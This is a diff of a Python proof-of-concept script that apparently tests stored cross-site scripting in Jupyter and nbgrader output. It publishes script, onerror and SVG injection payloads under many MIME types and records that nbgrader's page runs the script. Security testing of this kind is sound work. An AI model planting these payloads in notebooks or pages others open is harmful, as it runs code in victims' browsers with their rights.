@@ -2,7 +2,7 @@
 
 Would run in the browser of whoever opens the graded notebook or its page, with that person's rights.
 
-Plain nbgrader: not tried.
+Plain nbgrader: its page has the script.
 """
 
 # %%
@@ -12,7 +12,7 @@ publish({"text/html": evil})
 publish({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{evil}</svg>"})
 publish({"application/javascript": "alert(1)"})
 publish({"text/markdown": evil, "text/latex": evil})
-publish({"application/vnd.jupyter.widget-view+json": evil})
+publish({"application/vnd.jupyter.widget-view+json": {"model_id": evil, "version_major": 2}})
 publish({"image/png": 'AAAA" onerror="alert(1)" x="'})
 publish({"image/jpeg": 'AAAA"><script>alert(1)</script>'})
 publish({"text/plain": evil})
